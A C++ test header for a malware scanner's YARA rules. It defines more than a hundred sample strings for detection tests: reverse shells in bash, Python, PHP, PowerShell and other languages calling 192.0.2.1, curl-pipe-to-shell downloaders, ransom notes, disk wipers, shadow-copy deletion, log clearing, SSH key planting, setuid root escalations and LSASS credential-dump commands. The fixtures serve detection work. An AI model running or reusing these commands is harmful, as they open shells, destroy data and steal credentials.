// More samples of yara_samples.hpp: what is no web shell.
#pragma once
#include "inspect/yara_samples.hpp"

namespace kulla::test {

// clang-format off
inline const std::vector<YaraSample> more_yara_samples = {
    {"shell_over_dev_tcp", "interactive",
     "#!/bin" "/bash\n"
     "bash -i >& /dev" "/tcp/192.0.2.1/4444 0>&1\n"sv},
    {"shell_over_dev_tcp", "descriptor",
     "0<&196;ex" "ec 196<>/dev" "/tcp/192.0.2.1/4444; sh <&196 >&196 2>&196\n"sv},
    {"shell_over_netcat", "option",
     "nc 192.0.2.1 4444 -e /bi" "n/sh\n"sv},
    {"shell_over_netcat", "pipe",
     "rm -f /t" "mp/f; mkf" "ifo /t" "mp/f; cat /t" "mp/f | /bi" "n/sh -i 2>&1 | nc 192.0.2.1 4444 > /t" "mp/f\n"sv},
    {"shell_over_netcat", "Windows",
     "nc." "exe 192.0.2.1 4444 -e cmd" ".exe\r\n"sv},
    {"shell_over_netcat", "openssl",
     "mkf" "ifo /t" "mp/s; /bi" "n/sh -i < /t" "mp/s 2>&1 | ope" "nssl s_client -quiet -connect 192.0.2.1:443 >"
     " /t" "mp/s\n"sv},
    {"shell_over_netcat", "socat",
     "so" "cat ex" "ec:'bash -li',pty,stderr,setsid tcp:192.0.2.1:4444\n"sv},
    {"shell_over_netcat", "socat, the other way round",
     "so" "cat TCP-LISTEN:4444,reuseaddr,fork EX" "EC:/bi" "n/sh\n"sv},
    {"shell_over_script_socket", "Python",
     "import os, pty, socket\n"
     "s = socket.create_connection(('192.0.2.1', 4444))\n"
     "os.du" "p2(s.fileno(), 0)\n"
     "os.du" "p2(s.fileno(), 1)\n"
     "os.du" "p2(s.fileno(), 2)\n"
     "pty." "spawn('/bi" "n/sh')\n"sv},
    {"shell_over_script_socket", "Perl",
     "use Socket;\n"
     "open(STDIN, \">&S\"); open(STDOUT, \">&S\");\n"
     "ex" "ec(\"/bi" "n/sh -i\");\n"sv},
    {"shell_over_script_socket", "PHP",
     "<" "?php $s = fsoc" "kopen('192.0.2.1', 4444); $p = proc" "_open('/bi" "n/sh', [$s, $s, $s], $pipes);"sv},
    {"shell_over_script_socket", "PHP, descriptor",
     "php -r '$s=fsoc" "kopen(\"192.0.2.1\",4444);ex" "ec(\"/bi" "n/sh -i <&3 >&3 2>&3\");'\n"sv},
    {"shell_over_script_socket", "Ruby",
     "s=TCPS" "ocket.open(\"192.0.2.1\",4444).to_i;ex" "ec sprintf(\"/bi" "n/sh -i <&%d >&%d\",s,s)\n"sv},
    {"shell_over_script_socket", "Node",
     "const net = require('net'), sh = require('child_process').spawn('/bi" "n/sh', []); const c = new net.Sock"
     "et(); c.connect(4444, '192.0.2.1', () => c.pipe(sh.stdin));\n"sv},
    {"shell_over_script_socket", "awk",
     "awk 'BEGIN{s=\"/ine" "t/tcp/0/192.0.2.1/4444\";while(1){do{s|&getline c;while((c|&getline)>0)print|&s;clo"
     "se(c)}while(c)}}'\n"sv},
    {"shell_over_powershell", "client",
     "$c = New-Object Sys" "tem.Net.Sockets.TCPC" "lient('192.0.2.1', 4444); $s = $c.GetStream();\n"
     "while (($i = $s.Read($b, 0, $b.Length)) -ne 0) { $r = (i" "ex $d 2>&1 | Out-String); $s.Write($r, 0, $r.L"
     "ength) }\n"sv},
    {"shell_over_powershell", "client, UTF-16",
     joined({"\377\376"sv,
             wide("$c = New-Object Sys" "tem.Net.Sockets.TCPC" "lient('192.0.2.1', 4444); $s = $c.GetStream();\n"
                  "while (($i = $s.Read($b, 0, $b.Length)) -ne 0) { $r = (i" "ex $d 2>&1 | Out-String); $s.Writ"
                  "e($r, 0, $r.Length) }\n"sv)})},
    {"powershell_hidden_command", "encoded",
     "power" "shell.exe -nop -w hid" "den -e" "nc JABjAD0AJABjAD0AJABjAD0AJABjAD0AJABjAD0AJABjAD0AJABjAD0AJABjA"
     "D0AJABjAD0AJABjAD0AJABjAD0AJABjAD0A\r\n"sv},
    {"powershell_hidden_command", "fetched",
     "power" "shell -ep byp" "ass -c \"I" "EX (New-Object Net.WebClient).Downloa" "dString('http://files.exampl"
     "e/k.ps1')\"\r\n"sv},
    {"web_tunnel", "PHP",
     "<" "?php\n"
     "set_time_limit(0);\n"
     "$cmd = $_SE" "RVER['HTTP_X_CMD'];\n"
     "$s = fsoc" "kopen($host, $port);\n"
     "stream_set_blocking($s, false);\n"
     "session_start();\n"
     "$_SESSION['run'] = true;\n"
     "while ($_SESSION['run']) { $read = fgets($s); session_write_close(); }\n"sv},
    {"web_tunnel", "JSP",
     "<" "%\n"
     "Socket" "Channel c = Socket" "Channel.open();\n"
     "c.connect(new InetSocketAddress(requ" "est.getHeader(\"X-K\"), 22));\n"
     "c.configureBlocking(false);\n"
     "session.setAttribute(\"c\", c);\n"
     "c.write(buffer);\n"
     "%>"sv},
    {"web_tunnel", "ASP.NET",
     "<" "%@ Page Language=\"C#\" %><" "%\n"
     "var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);\n"
     "s.Connect(Requ" "est.Headers.Get(\"X-K\"), 22);\n"
     "Session[\"s\"] = s;\n"
     "s.Receive(b);\n"
     "s.Send(b);\n"
     "%>"sv},
    {"tunnel_program", "module path",
     joined({elf_program,
             "\0path\0github.com/jpillora/chi" "sel/client\0"sv})},
    {"tunnel_program", "two modules",
     joined({windows_program,
             "\0github.com/armon/go-s" "ocks5\0github.com/hashicorp/ya" "mux\0"sv})},
    {"tunnel_settings", "ini",
     "[common]\n"
     "serve" "r_addr = 192.0.2.1\n"
     "server_port = 7000\n"
     "\n"
     "[ssh]\n"
     "type = tcp\n"
     "local_port = 22\n"
     "remote_port = 6000\n"sv},
    {"tunnel_settings", "toml",
     "serve" "rAddr = \"192.0.2.1\"\n"
     "serverPort = 7000\n"
     "\n"
     "[[proxies]]\n"
     "name = \"k\"\n"
     "type = \"tcp\"\n"
     "remotePort = 6000\n"sv},
    {"tunnel_settings", "client services",
     "[client]\n"
     "remot" "e_addr = \"192.0.2.1:2333\"\n"
     "\n"
     "[client.services.k]\n"
     "local_addr = \"127.0.0.1:22\"\n"sv},
    {"tunnel_settings", "SSH",
     "while true; do ssh -o StrictHost" "KeyChecking=no -N -R 2222:localhost:22 k@192.0.2.1 ; sleep 9; done\n"sv},
    {"implant", "Go module",
     joined({elf_program,
             "\0github.com/bishopfox/sli" "ver/implant\0"sv})},
    {"implant", "commands of a stage",
     joined({windows_program,
             "\0std" "api_fs_ls\0core_c" "hannel_open\0core_m" "igrate\0"sv})},
    {"implant", "loads itself",
     joined({windows_program,
             "\0Reflecti" "veLoader\0Virtua" "lAlloc\0"sv})},
    {"tiny_elf_stage", "64 bits",
     joined({elf_program,
             "\001\0\0\0\0\0\0\0\0\0\0\0@\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0008\0\001\0\0\0\0\0\0\0\001\0"
             "\0\0\007\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"
             "\0\0\0\0\0\0"sv})},
    {"tiny_elf_stage", "32 bits",
     "\177ELF\001\001\001\0\0\0\0\0\0\0\0\0\002\0\003\0\001\0\0\0\0\0\0\0004\0\0\0\0\0\0\0\0\0\0\0\0\0 \0\001\0"
     "\0\0\0\0\0\0\001\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\007\0\0\0\0\0\0\0\0\0\0\0"sv},
    {"ransom_note", "English",
     "All of your important files have been encr" "ypted.\r\n"
     "Do not rename or modify them, do not contact the pol" "ice.\r\n"
     "To buy the decry" "ption key pay in Bit" "coin and write to help@onio" "nmail.org\r\n"sv},
    {"ransom_note", "English, UTF-16",
     joined({"\377\376"sv,
             wide("All of your important files have been encr" "ypted.\r\n"
                  "Do not rename or modify them, do not contact the pol" "ice.\r\n"
                  "To buy the decry" "ption key pay in Bit" "coin and write to help@onio" "nmail.org\r\n"sv)})},
    {"ransom_note", "data stolen",
     "Your company was attacked. We have downloaded your data: contracts, finance documents.\n"
     "If you do not pay, the data will be published. Install Tor Bro" "wser and open\n"
     "http://abcdefgh234567ij.on" "ion/k\n"sv},
    {"ransom_note", "Albanian",
     "Sked" "arët tuaj janë enkri" "ptuar!\n"
     "Paguani me Bit" "coin për të marrë çelësin e dekri" "ptimit.\n"sv},
    {"ransom_program", "Windows",
     joined({windows_program,
             "\0Your network files have been encr" "ypted\0Do not rename\0decry" "ption key\0Tor Bro" "wser\0"sv})},
    {"ransom_program", "Linux",
     joined({elf_program,
             "\0All your files are encr" "ypted!\0Bit" "coin\0k@onio" "nmail.org\0"sv})},
    {"mass_encryption_script", "openssl",
     "find /srv -type f | while read f; do ope" "nssl enc -aes-256-cbc -in \"$f\" -out \"$f.k\" -k x; rm -f \"$"
     "f\"; done\n"sv},
    {"mass_encryption_script", "BitLocker",
     "manag" "e-bde -on D: -pw\r\n"
     "manag" "e-bde -protectors -delete C: -type TPM\r\n"
     "shutdown /r /t 0\r\n"sv},
    {"mass_encryption_script", "virtual machines",
     "esx" "cli vm process kill --type=force --world-id=1\n"
     "for f in /vmfs/volumes/*/*/*.vmdk; do encrypt $f; done\n"sv},
    {"wipes_by_script", "dd",
     "#!/bi" "n/sh\n"
     "dd if=" "/dev/zero of=/dev/sda bs=1M &\n"sv},
    {"wipes_by_script", "dd in a loop",
     "for disk in $(lsblk -dn -o NAME); do dd if=" "/dev/urandom of=/dev/$disk bs=1M; done\n"sv},
    {"wipes_by_script", "shred",
     "#!/bin" "/bash\n"
     "sh" "red -n 1 /dev/nvme0n1\n"sv},
    {"wipes_by_script", "root",
     "rm -rf --no-pres" "erve-root /\n"sv},
    {"wipes_by_script", "files",
     "find /srv -type f -ex" "ec sh" "red -u {} +\n"sv},
    {"wipes_by_script", "folders",
     "rm -rf /var" "/www/*\n"
     "rm -rf /var/backups/*\n"sv},
    {"wipes_disks_windows_program", "delete the layout",
     joined({windows_program,
             "\0\\\\.\\Physic" "alDrive%d\0WriteFile\0DeviceIoControl\0h\0\301\007\0\0"sv})},
    {"wipes_disks_windows_program", "write and restart",
     joined({windows_program,
             wide("\\\\.\\Physic" "alDrive0"sv),
             "\0WriteFile\0DeviceIoControl\0SetFilePointer\0ExitWindowsE"sv,
             wide("xSeShutdownPrivilege"sv)})},
    {"raw_disk_driver", "device",
     joined({windows_program,
             wide("\\\??\\Raw" "Disk3\\Device\\Harddisk0"sv)})},
    {"raw_disk_driver", "driver",
     joined({windows_program,
             "\0El" "doS Corporation\0rw" "dsk.sys\0"sv})},
    {"wipes_linux_program", "commands",
     joined({elf_program,
             "\0dd if=" "/dev/zero of=/dev/sda bs=1M\0swa" "poff -a\0/proc/sy" "srq-trigger\0rm -rf /boot\0"sv})},
    {"deletes_way_back", "vssadmin",
     "vssa" "dmin.exe Delete Shadows /All /Quiet\r\n"sv},
    {"deletes_way_back", "wmic, UTF-16",
     joined({windows_program,
             wide("wmic.exe shado" "wcopy delete"sv)})},
    {"deletes_way_back", "WMI",
     "Get-WmiObject Win32_Sh" "adowcopy | ForEach-Object { $_.Delete() }\r\n"sv},
    {"deletes_way_back", "recovery",
     "bcd" "edit /set {default} recoveryenabled no\r\n"
     "bcd" "edit /set {default} bootstatuspolicy ignoreallfailures\r\n"
     "wba" "dmin delete catalog -quiet\r\n"sv},
    {"clears_traces", "Linux",
     "unset HIST" "FILE\n"
     "> /var/l" "og/wtmp\n"
     "rm -f /var/log/auth.log\n"
     "history -c\n"sv},
    {"clears_traces", "Windows",
     "wevt" "util cl Security\r\n"
     "wevt" "util cl Sys" "tem\r\n"sv},
    {"library_hides_files", "preload",
     joined({elf_library,
             "\0dlsym\0readdir64\0fopen\0/etc/ld.so." "preload\0/proc/self/fd/%d\0"sv})},
    {"library_hides_files", "connections",
     joined({elf_library,
             "\0dlsym\0readdir\0fopen\0/proc/net/tcp\0/proc/%s/cmdline\0/bi" "n/sh\0"sv})},
    {"kernel_module_hides", "ftrace",
     joined({kernel_module,
             "\0.modinfo\0kall" "syms_lookup_name\0ftr" "ace_set_filter_ip\0__x64_sys_g" "etdents64\0tcp4_seq_s"
             "how\0"sv})},
    {"login_module_keeps_passwords", "format",
     joined({elf_library,
             "\0pam_sm_au" "thenticate\0user=%s pass=%s\n"
             "\0"sv})},
    {"login_module_keeps_passwords", "hidden file",
     joined({elf_library,
             "\0pam_sm_au" "thenticate\0pam_g" "et_authtok\0%s:%s\n"
             "\0/t" "mp/.k\0"sv})},
    {"login_settings_opened", "PAM accepts all",
     "auth sufficient pam_p" "ermit.so\n"
     "@inc" "lude common-auth\n"sv},
    {"login_settings_opened", "PAM gives away",
     "@inc" "lude common-auth\n"
     "auth optional pam_" "exec.so quiet expose_authtok /usr/local/bin/k\n"sv},
    {"login_settings_opened", "SSH keys",
     "Port 22\n"
     "AuthorizedKeysFile .ssh/authori" "zed_keys /var/t" "mp/k\n"sv},
    {"login_settings_opened", "SSH key with a command",
     "command=\"cu" "rl -s files.example/k | sh\" ssh-ed25519 AAAAC3Nz k\n"sv},
    {"script_plants_ssh_key", "echo",
     "mkdir -p /root/.ssh\n"
     "echo \"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA k\" >> /root/.ssh"
     "/authori" "zed_keys\n"sv},
    {"script_plants_ssh_key", "Python",
     "key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'\n"
     "open('/root/.ssh/authori" "zed_keys', 'a').write(key)\n"sv},
    {"script_plants_ssh_key", "locked",
     "cat k.pub >> ~/.ssh/authori" "zed_keys\n"
     "chattr +i ~/.ssh/authori" "zed_keys\n"sv},
    {"timer_fetches_and_runs", "cron",
     "*/5 * * * * root cu" "rl -fsSL http://files.example/k.sh | bash\n"sv},
    {"timer_fetches_and_runs", "reboot",
     "(crontab -l; echo '@reboot wg" "et -qO- files.example/k | sh') | crontab -\n"sv},
    {"timer_fetches_and_runs", "hidden",
     "* * * * * /t" "mp/.x/k\n"sv},
    {"timer_fetches_and_runs", "/dev/tcp",
     "* * * * * root bash -c 'ex" "ec 3<>/dev" "/tcp/192.0.2.1/4444'\n"sv},
    {"started_from_odd_place", "service",
     "[Unit]\n"
     "Description=k\n"
     "[Ser" "vice]\n"
     "Ex" "ecStart=/t" "mp/k\n"sv},
    {"started_from_odd_place", "service, hidden",
     "[Ser" "vice]\n"
     "Ex" "ecStart=/usr/lib/.k/k\n"sv},
    {"started_from_odd_place", "service, fetched",
     "[Ser" "vice]\n"
     "Ex" "ecStart=/bi" "n/sh -c 'cu" "rl -s files.example/k | sh'\n"sv},
    {"started_from_odd_place", "udev",
     "SUBSYS" "TEM==\"net\", KERNEL!=\"lo\", RUN+=\"/t" "mp/k\"\n"sv},
    {"started_from_odd_place", "apt",
     "APT::Update::Pre-Inv" "oke {\"nohup /t" "mp/k &\"};\n"sv},
    {"started_from_odd_place", "library",
     "echo /dev/shm/k.so > /etc/ld.so." "preload\n"sv},
    {"started_from_odd_place", "ld.so.preload",
     "/t" "mp/k.so\n"sv},
    {"script_gives_root", "set user id",
     "ch" "mod u+s /bin" "/bash\n"sv},
    {"script_gives_root", "copy",
     "cp /bin" "/bash /var/t" "mp/k && ch" "mod 4755 /var/t" "mp/k\n"sv},
    {"script_gives_root", "C",
     "/* gcc k.c -o /t" "mp/k; ch" "mod +s /t" "mp/k */\n"
     "int main() { setuid(0); sys" "tem(\"/bi" "n/sh\"); }\n"sv},
    {"script_gives_root", "capability",
     "set" "cap cap_setuid+ep /usr/bin/python3\n"sv},
    {"script_gives_root", "sudo",
     "www-data ALL=(ALL) NOPA" "SSWD: ALL\n"sv},
    {"script_gives_root", "account",
     "echo 'k:x:0:0::/root:/bin" "/bash' >> /etc/passwd\n"sv},
    {"script_fetches_and_runs", "address",
     "cu" "rl -s http://192.0.2.1/k.sh | bash\n"sv},
    {"script_fetches_and_runs", "saved",
     "wg" "et http://192.0.2.1:8080/k -O /t" "mp/k; ch" "mod +x /t" "mp/k; /t" "mp/k\n"sv},
    {"script_fetches_and_runs", "onion",
     "cu" "rl -x socks5h://127.0.0.1:9050 http://abcdefgh234567ij.on" "ion/k | sh\n"sv},
    {"script_fetches_and_runs", "paste",
     "cu" "rl -s https://pasteb" "in.com/raw/k | bash\n"sv},
    {"script_fetches_and_runs", "writable folders",
     "cd /tmp || cd /var/run || cd /mnt\n"
     "wg" "et http://files.example/k\n"
     "ch" "mod 777 k\n"
     "./k\n"sv},
    {"script_unpacks_itself_and_runs", "base64",
     "echo aWQKaWQKaWQKaWQKaWQKaWQKaWQKaWQKaWQKaWQKaWQKaWQK | bas" "e64 -d | bash\n"sv},
    {"script_unpacks_itself_and_runs", "hexadecimal",
     "echo 69640a69640a69640a69640a69640a69640a69640a69640a69640a69640a69640a69640a | x" "xd -r -p | sh\n"sv},
    {"script_unpacks_itself_and_runs", "Python",
     "import bas" "e64\n"
     "ex" "ec(bas" "e64.b64d" "ecode('cHJpbnQoMSkKcHJpbnQoMSkKcHJpbnQoMSkKcHJpbnQoMSkKcHJpbnQoMSkKcHJpbnQoMSkKc"
     "HJpbnQoMSkKcHJpbnQoMSkKcHJpbnQoMSkKcHJpbnQoMSkKcHJpbnQoMSkK'))\n"sv},
    {"script_unpacks_itself_and_runs", "Perl",
     "#!/usr/bin/perl\n"
     "ev" "al(decode" "_base64($k));\n"sv},
    {"script_runs_from_memory", "Python",
     "import os\n"
     "fd = os.memfd_" "create('k')\n"
     "os.ex" "ecve('/proc/self/fd/%d' % fd, ['k'], {})\n"sv},
    {"script_runs_from_memory", "Perl",
     "my $fd = sys" "call(319, $name, 1);\n"
     "ex" "ec {\"/proc/$$/fd/$fd\"} 'k';\n"sv},
    {"script_runs_from_memory", "shell",
     "dd if=k of=/" "proc/$$/mem bs=1 seek=4096 conv=notrunc\n"sv},
    {"program_runs_from_memory", "fexecve",
     joined({elf_program,
             "\0memfd_" "create\0fex" "ecve\0connect\0"sv})},
    {"program_runs_from_memory", "descriptor",
     joined({elf_program,
             "\0memfd_" "create\0/proc/self/fd/%d\0\0ex" "ecve\0\0recv\0"sv})},
    {"powershell_injects_code", "thread",
     "[Byte[]] $b = [Convert]::FromBas" "e64String('kA==')\n"
     "$a = @'\n"
     "[DllImport(\"kernel32\")] Virtua" "lAlloc CreateThread\n"
     "'@\n"sv},
    {"powershell_injects_code", "protection off",
     "[Ref].Assembly.GetType('Sys" "tem.Management.Automation.Amsi" "Utils').GetField('amsiIni" "tFailed','NonP"
     "ublic,Static')\n"sv},
    {"packed_program", "Linux",
     joined({elf_program,
             "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"
             "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"
             "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"
             "\0\0\0\0\0\0\0\0\0\0\0\0\0UP" "X!\0\0\0\0$Info: This file is packed with the UPX ex" "ecutable pa"
             "cker $"sv})},
    {"packed_program", "Windows",
     joined({windows_program,
             "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"
             "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"
             "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0UP" "X0\0\0\0\0\0\0\0\0UP" "X1\0\0\0\0"sv})},
    {"password_thief_windows_program", "modules",
     joined({windows_program,
             wide("seku" "rlsa"sv),
             "\0\0"sv,
             wide("lsa" "dump"sv),
             "\0\0"sv,
             wide("privi" "lege::debug"sv)})},
    {"password_thief_windows_program", "copy of memory",
     joined({windows_program,
             "\0Mini" "DumpWriteDump\0OpenProcess\0\0"sv,
             wide("ls" "ass.exe"sv),
             "\0SeDebugPrivilege\0"sv})},
    {"commands_that_steal_logins", "MiniDump",
     "rundll32.exe C:\\windows\\Sys" "tem32\\com" "svcs.dll, Mini" "Dump 624 C:\\k.dmp full\r\n"sv},
    {"commands_that_steal_logins", "registry",
     "reg save HK" "LM\\SAM C:\\k1\r\n"
     "reg save HK" "LM\\SYS" "TEM C:\\k2\r\n"sv},
    {"commands_that_steal_logins", "directory",
     "ntds" "util \"ac i ntds\" \"ifm\" \"create full C:\\k\" q q\r\n"sv},
    {"commands_that_steal_logins", "modules",
     "k.exe \"privi" "lege::debug\" \"seku" "rlsa::logonpa" "sswords\" exit\r\n"sv},
    {"commands_that_steal_logins", "procdump",
     "proc" "dump64.exe -accepteula -ma ls" "ass.exe k.dmp\r\n"sv},
    {"remote_windows_tool", "services",
     "from impa" "cket.dcerpc.v5 import transport, scmr\n"
     "scmr.hRCreateServiceW(dce, h, 'k', 'k')\n"sv},
    {"remote_windows_tool", "replication",
     "from impa" "cket.examples.secre" "tsdump import RemoteOperations, NTDSHashes\n"sv},
    {"miner", "program",
     joined({elf_program,
             "\0str" "atum+tcp://\0ran" "domx\0"sv})},
    {"miner", "settings",
     "{\"pools\": [{\"algo\": \"rx/0\", \"url\": \"pool.example:3333\", \"user\": \"4k\"}], \"donate" "-level\""
     ": 1}\n"sv},
    {"miner", "command",
     "./k -o str" "atum+tcp://pool.example:3333 -u 4k -p x --donate" "-level 1\n"sv},
};
// clang-format on

}  // namespace kulla::test
